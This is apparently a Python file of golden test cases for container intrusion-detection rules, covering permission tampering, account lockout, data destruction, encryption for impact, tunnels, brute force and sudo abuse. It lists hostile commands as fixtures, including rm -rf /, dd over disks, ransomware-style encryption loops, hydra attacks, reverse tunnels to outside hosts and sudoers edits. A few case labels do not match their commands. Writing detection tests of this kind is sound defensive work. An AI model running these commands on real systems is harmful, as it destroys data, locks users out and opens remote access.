"""Golden cases of the permissions, accounts, destruction, tunnels and brute-force family
(stockade_55_more.yaml): file permission modification (T1222.002), account access removal and
local accounts (T1531, T1098, T1078.003), data destruction (T1485), encryption for impact (T1486),
proxies and tunnels (T1090, T1572), brute force and cracking (T1110) and sudo (T1548.003).

Procedures arrive as `sh -c '<text>'` (podman exec: the shell's parent is the runtime; podman run:
the shell is pid 1), often naming a tool the container lacks: the shell's own exec is then the only
trace, so most rules have a variant on the shell's command line as well as on the tool's exec."""

from __future__ import annotations

from typing import Any

from pack_events import UNDER_RUNTIME, PackCase, call, exec_, on_host, v

HOST = on_host()
UNDER_CONMON = ["conmon", "systemd"]
UNDER_ENTRYPOINT = ["docker-entrypoint.sh", "conmon", "systemd"]


def sh(text: str, shell: str = "sh", **kw: Any) -> dict[str, Any]:
    """`podman exec c sh -c '<text>'`: the shell's exec, its parent the runtime."""
    kw.setdefault("ancestors", UNDER_RUNTIME)
    return exec_(f"{shell} -c {text}", **kw)


def pid1(text: str, shell: str = "sh", **kw: Any) -> dict[str, Any]:
    """`podman run img sh -c '<text>'`: the shell is the container's pid 1."""
    return exec_(f"{shell} -c {text}", ancestors=UNDER_CONMON, vpid=1, **kw)


def chmod_call(path: str, mode: str, cmdline: str, evt_type: str = "fchmodat", **kw: Any) -> dict[str, Any]:
    args: dict[str, Any] = {"evt.arg.mode": mode}
    if evt_type == "fchmod":
        args["fd.name"] = path
    else:
        args["evt.arg.filename"] = path
    return call(evt_type, cmdline, args, **kw)


def rename(old: str, new: str, cmdline: str, **kw: Any) -> dict[str, Any]:
    return call(
        "renameat2",
        cmdline,
        {"evt.arg.oldpath": old, "evt.arg.newpath": new, "fs.path.source": old, "fs.path.target": new},
        **kw,
    )


RWX_ALL = "S_IXOTH|S_IWOTH|S_IROTH|S_IXGRP|S_IWGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR"
RW_ALL = "S_IWOTH|S_IROTH|S_IWGRP|S_IRGRP|S_IWUSR|S_IRUSR"
R755 = "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR"
TMP_STICKY = "S_IXOTH|S_IWOTH|S_IROTH|S_IXGRP|S_IWGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISVTX"

CASES: list[PackCase] = [
    PackCase(
        "File Permissions Weakened in Container",
        fires=[
            v("chattr -i on a cron table", exec_("chattr -i /var/spool/cron/root")),
            v("chattr +i to pin a backdoor", exec_("chattr +i /etc/ld.so.preload")),
            v("chattr -a on a log", exec_("chattr -a /var/log/auth.log")),
            v("chmod a+w (symbolic)", exec_("chmod a+w /opt/app/config.yml")),
            v("chmod -R 777 /etc", exec_("chmod -R 777 /etc")),
            v("chmod o+w shadow", exec_("chmod o+w /etc/shadow")),
            v("chmod 0666 sudoers", exec_("chmod 0666 /etc/sudoers")),
            v("chmod u=rwx,go=rwx", exec_("chmod u=rwx,a+w /srv/data")),
            v("chmod -R 755 on /usr/bin (recursive, system dir)", exec_("chmod -R 755 /usr/bin")),
            v("chown of shadow to a user", exec_("chown www-data /etc/shadow")),
            v("chown -R of root's home", exec_("chown -R nobody:nogroup /root")),
            v("chgrp of ssh dir", exec_("chgrp -R users /root/.ssh")),
            v("setfacl grants a user", exec_("setfacl -m u:nobody:rwx /etc/passwd")),
            v(
                "python os.chmod 0o777 on /etc/passwd (syscall)",
                chmod_call("/etc/passwd", RWX_ALL, "python3 -c import os; os.chmod('/etc/passwd', 0o777)"),
            ),
            v(
                "fchmod of /usr/bin/sudo world-writable",
                chmod_call("/usr/bin/python3", RW_ALL, "perl", "fchmod"),
            ),
            v("busybox chmod -R on /var/log", exec_("busybox chmod -R 777 /var/log")),
        ],
        near_misses=[
            v("chmod +x of an app script", exec_("chmod +x /app/run.sh")),
            v("chmod 755 of a file in tmp", exec_("chmod 755 /tmp/tool")),
            v("chmod 600 of a key", exec_("chmod 600 /root/.ssh/id_rsa")),
            v(
                "chmod -R 777 by the entrypoint",
                exec_("chmod -R 777 /var/www/data", ancestors=UNDER_ENTRYPOINT),
            ),
            v("lsattr only", exec_("lsattr /etc/passwd")),
            v("getfacl only", exec_("getfacl /etc/passwd")),
            v("chown root:root of a tmp file", exec_("chown root:root /tmp/a.txt")),
            v("chown of the app dir", exec_("chown -R app:app /srv/app")),
            v("chmod 1777 syscall on /tmp", chmod_call("/tmp", TMP_STICKY, "chmod 1777 /tmp")),
            v(
                "chmod 755 syscall on /usr/local/bin/tool",
                chmod_call("/usr/local/bin/tool", R755, "chmod 755 /usr/local/bin/tool"),
            ),
            v("on the host", exec_("chattr -i /etc/resolv.conf", where=HOST)),
            v(
                "package manager",
                exec_("chmod 0777 /var/lib/dpkg/tmp", ancestors=["dpkg", "apt-get", "bash"]),
            ),
        ],
    ),
    PackCase(
        "Account Access Modified in Container",
        fires=[
            v("passwd -l", exec_("passwd -l app")),
            v("passwd -d root", exec_("passwd -d root")),
            v("passwd for a user", exec_("passwd ARTUser")),
            v("echo root:x | chpasswd", exec_("chpasswd", ancestors=["sh", "conmon", "systemd"])),
            v("usermod -L", exec_("usermod -L app")),
            v("usermod --expiredate 1", exec_("usermod --expiredate 1 app")),
            v("usermod -p hash", exec_("usermod -p $1$abc$xyz nobody")),
            v("usermod --shell for nobody", exec_("usermod --shell /bin/bash nobody")),
            v("chsh nobody", exec_("chsh --shell /bin/bash nobody")),
            v("chage -E 0", exec_("chage -E 0 app")),
            v("userdel", exec_("userdel -r app")),
            v("deluser", exec_("deluser app")),
            v("sudo passwd -l (sudo missing) on sh -c", sh("sudo passwd -l app")),
            v(
                "usermod --lock as pid 1 (bash)",
                pid1("usermod --lock art; usermod --unlock art", shell="bash"),
            ),
            v("echo root:pw | chpasswd on the shell line", sh("echo root:toor | chpasswd")),
        ],
        near_misses=[
            v("passwd -S status", exec_("passwd -S app")),
            v("chage -l list", exec_("chage -l app")),
            v("usermod -aG (group add)", exec_("usermod -aG video app")),
            v("package install runs usermod", exec_("usermod -L sys", ancestors=["dpkg", "apt-get", "bash"])),
            v("on the host", exec_("passwd -l app", where=HOST)),
            v("reading /etc/passwd", sh("cat /etc/passwd | grep app")),
        ],
    ),
    PackCase(
        "Data Destruction Command in Container",
        fires=[
            v("shred -u", exec_("shred -u -n 3 /srv/data/customers.db")),
            v("shred on sh -c", sh("shred -zu /root/secrets.txt")),
            v("wipe -rf", exec_("wipe -rf /srv/data")),
            v("srm", exec_("srm -r /home/app")),
            v("dd zero over a file", exec_("dd of=/srv/data/db.sqlite if=/dev/zero bs=1M count=10")),
            v("dd urandom over a disk", exec_("dd if=/dev/urandom of=/dev/sda bs=4M")),
            v("dd on sh -c as pid 1", pid1("dd if=/dev/zero of=/var/lib/app/state bs=1k count=1")),
            v("rm -rf --no-preserve-root /", exec_("rm -rf --no-preserve-root /")),
            v("rm -rf / on bash -c", sh("rm -rf /", shell="bash")),
            v("rm -rf /* expanded", exec_("rm -rf /bin /boot /dev /etc /home /lib /usr /var")),
            v("rm -fr /* on the shell line", sh("rm -fr /*")),
            v("wipefs", exec_("wipefs -a /dev/vdb")),
        ],
        near_misses=[
            v("log rotation rm", exec_("rm -f /var/log/client.log.2.gz")),
            v("tmp clean-up", exec_("rm -rf /tmp/build")),
            v("dd to /dev/null", exec_("dd if=/dev/zero of=/dev/null bs=1M count=100")),
            v("dd copy of an image", exec_("dd if=/srv/in.img of=/srv/out.img")),
            v("on the host", exec_("shred -u /tmp/x", where=HOST)),
            v("rm -rf ./", exec_("rm -rf ./cache")),
        ],
    ),
    PackCase(
        "Files Encrypted for Impact in Container",
        fires=[
            v(
                "find -exec openssl enc",
                exec_("find /srv/data -type f -exec openssl enc -aes-256-cbc -k x -in {} -out {}.enc ;"),
            ),
            v(
                "for loop of gpg -c (bash -c)",
                sh(
                    'for f in /srv/data/*; do gpg --batch --passphrase x -c "$f"; rm "$f"; done', shell="bash"
                ),
            ),
            v("find | xargs ccencrypt as pid 1", pid1("find /home -type f | xargs ccencrypt -K pw")),
            v(
                "while read loop openssl",
                sh("find / -name '*.db' | while read f; do openssl aes-256-cbc -in $f -out $f.x -k k; done"),
            ),
            v(
                "mv to .locked",
                rename("/srv/data/a.db", "/srv/data/a.db.locked", "mv /srv/data/a.db /srv/data/a.db.locked"),
            ),
            v(
                "python renames to .encrypted",
                rename("/home/u/r.pdf", "/home/u/r.pdf.encrypted", "python3 enc.py"),
            ),
        ],
        near_misses=[
            v("single openssl decrypt in a loop", sh("for f in *.enc; do echo $f; done")),
            v("rename to .gz by rotation", rename("/var/log/a.log.1", "/var/log/a.log.1.gz", "gzip a.log.1")),
            v("find -exec gzip", exec_("find /var/log -name '*.1' -exec gzip {} ;")),
            v("on the host", exec_("find /x -exec openssl enc -aes-256-cbc -in {} ;", where=HOST)),
        ],
    ),
    PackCase(
        "Proxy or Tunnel Started in Container",
        fires=[
            v("ssh -D socks", exec_("ssh -N -D 1080 user@10.0.0.5")),
            v("ssh -L forward", exec_("ssh -fNL 3306:db:3306 jump@10.0.0.5")),
            v("ssh -R reverse", exec_("ssh -R 9000:localhost:22 user@203.0.113.7")),
            v("socat relay", exec_("socat TCP-LISTEN:8443,fork TCP:10.0.0.9:443")),
            v("ncat --broker", exec_("ncat -l 9000 --broker")),
            v("chisel client", exec_("chisel client 203.0.113.7:8000 R:socks")),
            v(
                "cloudflared on sh -c (missing tool)",
                sh("nohup ./cloudflared tunnel --url localhost:8080 >/dev/null 2>&1 &"),
            ),
            v(
                "code tunnel as pid 1",
                pid1("nohup code tunnel --accept-server-license-terms >/dev/null 2>&1 &"),
            ),
            v("devtunnel host", sh("/opt/devtunnel host -p 8080 &")),
            v("tor service start", sh("sudo systemctl start tor")),
            v("proxychains", exec_("proxychains4 curl http://10.0.0.8/")),
            v("export http_proxy; curl", sh("export http_proxy=127.0.0.1:3128; curl http://example.com")),
            v("curl --socks5", exec_("curl --socks5 127.0.0.1:1080 http://example.com")),
            v("ngrok tcp", exec_("ngrok tcp 22")),
            v("iodine", exec_("iodine -f t1.example.com")),
        ],
        near_misses=[
            v("plain ssh", exec_("ssh user@10.0.0.5 uptime")),
            v("socat to a unix socket", exec_("socat - UNIX-CONNECT:/run/app.sock")),
            v("curl health check", sh("wget -qO- localhost:8080")),
            v("ordinary curl", exec_("curl -s http://localhost:8080/healthz")),
            v("on the host", exec_("ssh -D 1080 user@10.0.0.5", where=HOST)),
            v("tor in a word", sh("echo monitoring > /tmp/status")),
        ],
    ),
    PackCase(
        "Brute Force or Password Cracking in Container",
        fires=[
            v("hydra ssh", exec_("hydra -l root -P /tmp/pw.txt ssh://10.0.0.5")),
            v("medusa", exec_("medusa -h 10.0.0.5 -u admin -P pw.txt -M ssh")),
            v("john", exec_("john --wordlist=/tmp/w.txt /tmp/hashes")),
            v("hashcat", exec_("hashcat -m 1800 hashes.txt rockyou.txt")),
            v(
                "sshpass credential stuffing loop (bash -c)",
                sh(
                    'for up in $(cat /tmp/creds.txt); do sshpass -p "${up#*:}" ssh -o StrictHostKeyChecking=no '
                    '"${up%%:*}"@localhost whoami; done',
                    shell="bash",
                ),
            ),
            v(
                "su guessing loop as pid 1",
                pid1("for p in 123456 password toor; do echo $p | su root -c id; done"),
            ),
            v("sudo -S spraying", sh("while read p; do echo $p | sudo -S -u root id; done < /tmp/pw")),
            v("hydra missing, on the shell line", sh("hydra -L users.txt -p Spring2026 ssh://10.0.0.0/24")),
        ],
        near_misses=[
            v("a loop of curls", sh("for i in 1 2 3; do curl -s localhost:8080; done")),
            v("su once", exec_("su app -c whoami")),
            v("on the host", exec_("hydra -l root ssh://10.0.0.5", where=HOST)),
        ],
    ),
    PackCase(
        "Sudo Rights Probed or Sudo Settings Changed in Container",
        fires=[
            v("sudo -l", exec_("sudo -l")),
            v("sudo -n true", exec_("sudo -n true")),
            v("sudo -l on sh -c (sudo missing)", sh("sudo -l ; sudo cat /etc/sudoers")),
            v("echo pw | sudo -S as pid 1", pid1("echo hunter2 | sudo -S id", shell="bash")),
            v(
                "sed timestamp_timeout",
                exec_("sed -i s/env_reset.*$/env_reset,timestamp_timeout=-1/ /etc/sudoers"),
            ),
            v("tty_tickets on sh -c", sh('sudo sh -c "echo Defaults !tty_tickets >> /etc/sudoers"')),
            v(
                "NOPASSWD appended with tee",
                exec_("tee -a /etc/sudoers.d/app", fields={"proc.args": "-a /etc/sudoers.d/app NOPASSWD"}),
            ),
        ],
        near_misses=[
            v("sudo to run a command", exec_("sudo apt-get update")),
            v("visudo -c", exec_("visudo -c -f /etc/sudoers")),
            v("on the host", exec_("sudo -l", where=HOST)),
            v("reading sudoers", exec_("cat /etc/sudoers")),
        ],
    ),
]
